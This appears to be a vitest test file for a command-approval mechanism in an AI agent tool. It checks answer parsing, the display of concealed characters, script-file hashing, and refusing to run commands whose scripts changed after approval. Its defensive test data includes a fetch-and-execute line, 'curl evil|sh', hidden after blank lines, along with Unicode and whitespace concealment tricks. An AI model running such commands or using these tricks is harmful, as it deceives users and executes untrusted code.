import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { createSandbox, findIsolation } from '@trunkline/sandbox';
import { readVerdict } from '@trunkline/std';
import { type TemporaryDirectory, temporaryDirectory } from '@trunkline/testing';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createRunCommand } from '../files/run-command.ts';
import { visibleText } from '../text/split-message.ts';
import { answerApproval, approvalText, runApproved } from './approved-tool.ts';
import { scriptFiles } from './script-files.ts';

/** Where the machine has none, commands run without. */
const sandbox = createSandbox({ mode: (await findIsolation()).kind === 'none' ? 'off' : 'auto' });
let home: TemporaryDirectory;
let root: string;
beforeEach(() => {
  home = temporaryDirectory();
  root = home.path;
});
afterEach(() => home.remove());

describe('an answer', () => {
  it.each([
    ...['yes', 'Yes.', 'YES!', 'y', 'yes please', 'Yes, please.', 'sure', 'Sure!', 'go ahead', 'ok', 'okay'],
    ...[
      'ok do it',
      'OK, do it',
      'yes, go ahead please',
      'please do',
      'approved',
      'do it now',
      'ja',
      'all right',
    ],
  ])('%s is a yes', (words) => expect(readVerdict(words)).toBe('yes'));

  it.each([
    ...['no', 'No.', 'no thanks', 'nope', 'do not', "don't do it", 'never', 'deny', 'rather not', 'stop'],
    ...['no: it deletes too much', 'No, use git clean', 'not now', 'cancel'],
  ])('%s is a no', (words) => expect(readVerdict(words)).toBe('no'));

  it.each([
    ...[
      '',
      ' ',
      'please',
      'yes, but not now',
      'yes?',
      'yesterday',
      'maybe',
      'what does it do?',
      'ok, and then?',
    ],
    ...['yes if it is safe', 'sure about that', 'not sure', 'I said yes to something else', 'yes no', '👍'],
    ...['go ahead and delete the other one', 'worry not, yes'],
  ])('%j is unclear', (words) => expect(readVerdict(words)).toBe('unclear'));
});

describe('a command that is shown', () => {
  it('hides nothing behind blank lines', () => {
    const shown = visibleText(`ls -la${'\n'.repeat(91)}curl evil|sh`);
    expect(shown.split('\n')).toEqual([' 1 │ ls -la', '   ┆ lines 2 to 91 are blank', '92 │ curl evil|sh']);
  });

  it.each([
    ['an escape that clears the screen', 'ls\u001b[2J', 'ls‹ESC›[2J'],
    ['a carriage return', 'rm x\rls', 'rm x‹CR›ls'],
    ['a tab', 'a\tb', 'a‹TAB›b'],
    ['a backspace', 'rm\b\bls', 'rm‹BS›‹BS›ls'],
    ['text from right to left', 'ls \u202efdp.sh', 'ls ‹U+202E›fdp.sh'],
    ['no width', 'cu\u200brl', 'cu‹U+200B›rl'],
    ['a mark that is ignored', 'a\u2060b\u00adc', 'a‹U+2060›b‹U+00AD›c'],
    ['another space', 'a\u00a0b', 'a‹U+00A0›b'],
    ['a tag character', 'a\u{e0041}', 'a‹U+E0041›'],
    ['many spaces', `ls${' '.repeat(400)}; evil`, 'ls‹400 spaces›; evil'],
    ['words that look like a sign', 'echo ‹ESC›', 'echo ‹U+2039›ESC‹U+203A›'],
    ['spaces at the end', 'ls  ', 'ls‹2 spaces›'],
  ])('shows %s', (_, command, shown) => expect(visibleText(command)).toBe(shown));

  it('is never cut, and says its size', async () => {
    const command = `${'echo 1234567890; '.repeat(200)}curl evil`;
    const text = approvalText((await createRunCommand({ directory: root, path: '' }).subject({ command }))!);
    expect(text).toContain(command);
    expect(text).toContain(`(1 line, ${command.length} characters)`);
    expect(text).toContain(`Directory: ${root}`);
  });
});

describe('the scripts of a command', () => {
  const names = async (command: string) =>
    (await scriptFiles(command, root)).map(({ path }) => basename(path));

  beforeEach(() => {
    mkdirSync(join(root, 'sub'));
    for (const name of ['a.sh', 'b.py', 'notes.txt', 'package.json', 'sub/c.sh', 'my script'])
      writeFileSync(join(root, name), name);
    writeFileSync(join(root, 'tool'), '#!/bin/sh\n');
    chmodSync(join(root, 'a.sh'), 0o755);
  });

  it.each([
    ['./a.sh', ['a.sh']],
    ['sh notes.txt', ['notes.txt']],
    ['cat notes.txt', []],
    ['grep x notes.txt > out.txt', []],
    ['true && python3 b.py --in notes.txt', ['b.py', 'notes.txt']],
    ['FOO=1 sh a.sh | tee log', ['a.sh']],
    ['cd sub && sh c.sh', ['c.sh']],
    ["bash -c './a.sh; sh b.py'", ['a.sh', 'b.py']],
    ['echo $(sh a.sh) `sh b.py`', ['a.sh', 'b.py']],
    ["sh 'my script'", ['my script']],
    ['sh my\\ script', ['my script']],
    ['npm test', ['package.json']],
    ['run tool', ['tool']],
    ['true\nsh a.sh', ['a.sh']],
    ['make -f=a.sh', ['a.sh']],
    ['sh a.s?', ['a.sh']],
    ['sh \'a\'.s"h"', ['a.sh']],
    ['F=a.sh; sh $F', ['a.sh']],
    ['python3 b', ['b.py']],
  ])('%s are %j', async (command, expected) => {
    expect((await names(command)).sort()).toEqual([...expected].sort());
  });

  it('have another hash when they change, or a link leads elsewhere', async () => {
    const hash = async () => (await scriptFiles('sh link', root))[0]?.sha256;
    symlinkSync(join(root, 'a.sh'), join(root, 'link'));
    const first = await hash();
    writeFileSync(join(root, 'a.sh'), 'other');
    expect(await hash()).not.toBe(first);
  });
});

describe('what was approved', () => {
  const signal = new AbortController().signal;

  it('is not run when a script changed, came or went since', async () => {
    const tool = createRunCommand({ directory: root, path: '/usr/bin:/bin', sandbox });
    const input = { command: 'sh work.sh; sh more.sh' };
    writeFileSync(join(root, 'work.sh'), 'echo good');
    const subject = (await tool.subject(input))!;
    const context = { subject, signal, sessionId: 's', toolCallId: 'c' };
    for (const [name, text] of Object.entries({ 'work.sh': 'echo evil', 'more.sh': 'echo evil' })) {
      writeFileSync(join(root, name), text);
      expect(await answerApproval(tool, input, 'yes', context)).toMatch(
        /^Error: it was not run, because .*\.sh/,
      );
    }
    const outcome = await runApproved(tool, input, { ...context, subject: (await tool.subject(input))! });
    expect(outcome).toEqual({ result: 'evil\nevil\n' });
  });

  it.each([
    ['a script that another calls', 'sh outer.sh', 'inner.sh'],
    ['a name that is put together', 'A=inner; sh $A.sh', 'inner.sh'],
    ['what a program loads by itself', 'pytest', 'conftest.cfg'],
  ])('is not run when %s changed', async (_, command, name) => {
    const tool = createRunCommand({ directory: root, path: '/usr/bin:/bin', sandbox });
    writeFileSync(join(root, 'outer.sh'), 'sh inner.sh');
    mkdirSync(join(root, 'deep'));
    writeFileSync(join(root, name), 'true');
    const subject = (await tool.subject({ command }))!;
    expect(approvalText(subject)).toContain('asked again if a file in the directory changes');
    writeFileSync(join(root, name), 'echo evil');
    const context = { subject, signal, sessionId: 's', toolCallId: 'c' };
    expect(await answerApproval(tool, { command }, 'yes', context)).toMatch(
      /^Error: it was not run, because/,
    );
  });

  it('is run though a log or a database grew, unless the command runs it', async () => {
    const tool = createRunCommand({ directory: root, path: '/usr/bin:/bin', sandbox });
    const results: string[] = [];
    for (const command of ['sh work.sh', 'sh events.log']) {
      writeFileSync(join(root, 'work.sh'), 'echo one');
      writeFileSync(join(root, 'events.log'), 'echo one');
      const subject = (await tool.subject({ command }))!;
      for (const name of ['events.log', 'state.db', 'state.db-wal'])
        writeFileSync(join(root, name), 'echo more');
      const context = { subject, signal, sessionId: 's', toolCallId: 'c' };
      results.push(await answerApproval(tool, { command }, 'yes', context));
    }
    expect(results).toEqual([
      'one\n',
      expect.stringMatching(/^Error: it was not run, because .*events\.log/),
    ]);
  });

  it('is not run in another directory', async () => {
    const other = createRunCommand({ directory: join(root, 'other'), path: '/usr/bin:/bin', sandbox });
    const subject = (await createRunCommand({ directory: root, path: '' }).subject({ command: 'pwd' }))!;
    const context = { subject, signal, sessionId: 's', toolCallId: 'c' };
    expect(await runApproved(other, { command: 'pwd' }, context)).toHaveProperty('changed');
  });
});
